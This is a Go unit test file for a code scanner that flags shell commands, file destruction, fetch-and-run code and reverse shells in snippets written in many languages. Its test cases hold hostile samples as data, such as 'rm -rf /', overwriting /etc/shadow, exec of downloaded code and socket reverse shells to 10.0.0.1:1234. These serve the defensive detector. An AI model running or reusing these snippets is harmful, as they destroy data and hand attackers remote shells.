package codescan

import (
	"slices"
	"testing"
)

// TestCertain: the call analysis finds what code does with constant
// arguments, and only that.
func TestCertain(t *testing.T) {
	tests := []struct {
		lang, code string
		commands   []string
		destroys   []string
		fetchRun   bool
		revShell   bool
	}{
		// Commands.
		{lang: "python", code: "import os; os.system('rm -rf /')", commands: []string{"rm -rf /"}},
		{lang: "python", code: "import os as o\no.system('rm -rf /')", commands: []string{"rm -rf /"}},
		{lang: "python", code: "import subprocess\nsubprocess.run(['rm', '-rf', '/'])", commands: []string{"rm -rf /"}},
		{lang: "python", code: "import subprocess as sp\nsp.call(('rm', '-rf', '/'))", commands: []string{"rm -rf /"}},
		{lang: "python", code: "from subprocess import run\nrun(['rm', '-rf', '~'])", commands: []string{"rm -rf '~'"}},
		{lang: "python", code: "import os; c = 'rm -rf /'; os.system(c)", commands: []string{"rm -rf /"}},
		{lang: "python", code: "import os; os.system('rm ' + '-rf /')", commands: []string{"rm -rf /"}},
		{lang: "python", code: "import os; os.execv('/bin/sh', ['sh', '-c', 'rm -rf /'])", commands: []string{"/bin/sh -c 'rm -rf /'"}},
		{lang: "python", code: "import subprocess\nsubprocess.run(['git', 'status'])\nassert 'rm -rf /' not in out", commands: []string{"git status"}},
		{lang: "python", code: "import os\nos.system(f'rm -rf {d}')", commands: []string{"rm -rf $__v"}},
		{lang: "python", code: "import os\nos.system('curl ' + url + ' | sh')", commands: []string{"curl $__v | sh"}},
		{lang: "python", code: "import subprocess\nsubprocess.run(['rm', '-rf', tmpdir])"},
		{lang: "python", code: "import shutil\nshutil.rmtree(f'/{d}')"},
		{lang: "python", code: "import subprocess\nsubprocess.run(\n    ['rm', '-rf', '/'],\n    check=True,\n)", commands: []string{"rm -rf /"}},
		{lang: "node", code: "require('child_process').execSync('rm -rf /')", commands: []string{"rm -rf /"}},
		{lang: "node", code: "const {execSync: x} = require('child_process'); x('rm -rf /')", commands: []string{"rm -rf /"}},
		{lang: "node", code: "const cp = require('node:child_process'); cp.spawn('rm', ['-rf', '/'])", commands: []string{"rm -rf /"}},
		{lang: "node", code: "import { execSync } from 'child_process'; execSync(`rm -rf ${d}`)", commands: []string{"rm -rf $__v"}},
		{lang: "perl", code: `system("rm -rf /");`, commands: []string{"rm -rf /"}},
		{lang: "perl", code: `system "rm", "-rf", "/";`, commands: []string{"rm -rf /"}},
		{lang: "perl", code: `system("rm -rf $dir");`, commands: []string{"rm -rf $__v"}},
		{lang: "perl", code: `system("rm -rf $ENV{HOME}");`, commands: []string{"rm -rf $HOME"}},
		{lang: "perl", code: `system('rm -rf $HOME');`, commands: []string{"rm -rf $HOME"}},
		{lang: "perl", code: "my $x = `rm -rf /`;", commands: []string{"rm -rf /"}},
		{lang: "perl", code: `open(my $f, "|-", "rm", "-rf", "/");`, commands: []string{"rm -rf /"}},
		{lang: "ruby", code: "system('rm -rf /')", commands: []string{"rm -rf /"}},
		{lang: "ruby", code: "`rm -rf #{d}`", commands: []string{"rm -rf $__v"}},
		{lang: "ruby", code: `system("rm -rf $HOME")`, commands: []string{"rm -rf $HOME"}},
		{lang: "php", code: `shell_exec("rm -rf /");`, commands: []string{"rm -rf /"}},
		{lang: "php", code: `shell_exec("rm -rf $d");`, commands: []string{"rm -rf $__v"}},
		{lang: "lua", code: `os.execute("rm -rf /")`, commands: []string{"rm -rf /"}},
		{lang: "lua", code: `os.execute "rm -rf /"`, commands: []string{"rm -rf /"}},
		{lang: "awk", code: `BEGIN { system("rm -rf /") }`, commands: []string{"rm -rf /"}},
		{lang: "awk", code: `{ print "rm -rf /" | "sh" }`, commands: []string{"sh", "rm -rf /"}},
		{lang: "awk", code: `{ print > "/dev/stderr"; print "rm -rf /" }`},

		// Destroys.
		{lang: "python", code: "import shutil; shutil.rmtree('/')", destroys: []string{"/"}},
		{lang: "python", code: "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", destroys: []string{"~"}},
		{lang: "python", code: "from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home())", destroys: []string{"~"}},
		{lang: "python", code: "import os; os.remove('/etc/passwd')", destroys: []string{"/etc/passwd"}},
		{lang: "python", code: "open('/etc/passwd', 'w').write('x')", destroys: []string{"/etc/passwd"}},
		{lang: "python", code: "print(open('/etc/passwd').read())"},
		{lang: "python", code: "from pathlib import Path\nPath('/etc/passwd').write_text('')", destroys: []string{"/etc/passwd"}},
		{lang: "python", code: "import os, shutil\nos.chdir('/')\nshutil.rmtree(tmpdir)"},
		{lang: "python", code: "import os, shutil\nos.chdir('/')\nshutil.rmtree('etc')", destroys: []string{"/etc"}},
		{lang: "python", code: "import shutil; shutil.copy('/etc/passwd', 'x')"},
		{lang: "node", code: "require('fs').rmSync('/', {recursive: true})", destroys: []string{"/"}},
		{lang: "node", code: "const fs = require('fs/promises'); await fs.rm(os.homedir(), {recursive: true})", destroys: []string{"~"}},
		{lang: "ruby", code: "require 'fileutils'; FileUtils.rm_rf('/')", destroys: []string{"/"}},
		{lang: "ruby", code: "FileUtils.rm_rf(Dir.home)", destroys: []string{"~"}},
		{lang: "perl", code: `use File::Path; rmtree("/usr");`, destroys: []string{"/usr"}},
		{lang: "perl", code: `open(my $f, ">", "/etc/shadow");`, destroys: []string{"/etc/shadow"}},
		{lang: "perl", code: `open(F, ">/etc/shadow");`, destroys: []string{"/etc/shadow"}},
		{lang: "php", code: `unlink("/etc/passwd");`, destroys: []string{"/etc/passwd"}},

		// Fetch and run.
		{lang: "python", code: "import requests; exec(requests.get('http://x').text)", fetchRun: true},
		{lang: "python", code: "import urllib.request as u; exec(u.urlopen(url).read())", fetchRun: true},
		{lang: "python", code: "import requests\ncode = requests.get(u).text\nexec(code)", fetchRun: true},
		{lang: "python", code: "import importlib\nimport requests.models\nimportlib.reload(requests.models)"},
		{lang: "python", code: "import requests\nr = requests.get(u)\nexec(open('setup.py').read())"},
		{lang: "python", code: "exec(open('requests.py').read())"},
		{lang: "python", code: "import os, requests\nos.system(requests.get(u).text)", fetchRun: true},
		{lang: "node", code: "fetch(u).then(r => r.text()).then(eval)", fetchRun: true},
		{lang: "node", code: "const r = await fetch(u); console.log(eval('1+1'))"},

		// Reverse shells.
		{lang: "python", code: `import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));` +
			`os.dup2(s.fileno(),0);p=subprocess.call(["/bin/sh","-i"])`, commands: []string{"/bin/sh -i"}, revShell: true},
		{lang: "python", code: "import socket, subprocess\ns = socket.socket()\ns.connect(('h', 1))\n" +
			"while True:\n    d = s.recv(1024)\n    s.send(subprocess.check_output(d, shell=True))", revShell: true},
		{lang: "ruby", code: `f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)`, revShell: true},
		{lang: "python", code: "import requests, subprocess\nsubprocess.run(['ls'])\nprint(requests.get(u).status_code)",
			commands: []string{"ls"}},
	}
	for _, tt := range tests {
		f := Scan(tt.lang, tt.code)
		if !slices.Equal(f.Commands, tt.commands) {
			t.Errorf("%s %q: Commands = %q, want %q", tt.lang, tt.code, f.Commands, tt.commands)
		}
		if !slices.Equal(f.Destroys, tt.destroys) {
			t.Errorf("%s %q: Destroys = %q, want %q", tt.lang, tt.code, f.Destroys, tt.destroys)
		}
		if f.FetchRun != tt.fetchRun {
			t.Errorf("%s %q: FetchRun = %v, want %v", tt.lang, tt.code, f.FetchRun, tt.fetchRun)
		}
		if f.RevShell != tt.revShell {
			t.Errorf("%s %q: RevShell = %v, want %v", tt.lang, tt.code, f.RevShell, tt.revShell)
		}
	}
}

func TestCertainOtherLanguages(t *testing.T) {
	tests := []struct {
		lang, code string
		commands   []string
		destroys   []string
	}{
		{lang: "guile", code: `(system "rm -rf /")`, commands: []string{"rm -rf /"}},
		{lang: "bb", code: `(shell "rm -rf /")`, commands: []string{"rm -rf /"}},
		{lang: "erl", code: `os:cmd("rm -rf /"), halt().`, commands: []string{"rm -rf /"}},
		{lang: "elixir", code: `System.cmd("rm", ["-rf", "/"])`, commands: []string{"rm -rf /"}},
		{lang: "elixir", code: `system("rm -rf $HOME")`, commands: []string{"rm -rf $HOME"}},
		{lang: "sbcl", code: `(sb-ext:run-program "/bin/sh" (list "-c" "rm -rf /"))`, commands: []string{"/bin/sh -c 'rm -rf /'"}},
		{lang: "scala", code: `import sys.process._; "rm -rf /".!`, commands: []string{"rm -rf /"}},
		{lang: "groovy", code: `"rm -rf /".execute()`, commands: []string{"rm -rf /"}},
		{lang: "osascript", code: `do shell script "rm -rf ~"`, commands: []string{"rm -rf ~"}},
		{lang: "osascript", code: `display dialog "rm -rf ~"`},
		{lang: "pwsh", code: `Remove-Item -Recurse -Force /`, destroys: []string{"/"}},
		{lang: "pwsh", code: `Remove-Item -Recurse -Force C:\ ; rm -rf /`, destroys: []string{"/"}},
		{lang: "pwsh", code: `rm -r -fo $HOME`, destroys: []string{"~"}},
		{lang: "pwsh", code: `Remove-Item -Recurse -Force ./build`},
		{lang: "pwsh", code: `Write-Output "Remove-Item /"`},
	}
	for _, tt := range tests {
		f := Scan(tt.lang, tt.code)
		if !slices.Equal(f.Commands, tt.commands) {
			t.Errorf("%s %q: Commands = %q, want %q", tt.lang, tt.code, f.Commands, tt.commands)
		}
		if !slices.Equal(f.Destroys, tt.destroys) {
			t.Errorf("%s %q: Destroys = %q, want %q", tt.lang, tt.code, f.Destroys, tt.destroys)
		}
	}
}
